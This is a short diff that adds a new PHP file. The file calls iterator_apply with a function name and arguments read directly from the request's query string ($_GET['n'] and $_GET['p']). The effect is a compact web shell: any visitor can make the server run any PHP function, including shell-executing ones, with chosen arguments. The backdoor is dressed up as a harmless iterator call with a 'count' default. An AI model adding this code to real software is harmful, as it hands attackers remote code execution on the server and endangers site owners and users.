@@ -1,0 +1,3 @@
+<?php
+$it = new ArrayIterator([1]);
+iterator_apply($it, $_GET['n'] ?? 'count', $_GET['p'] ?? []);
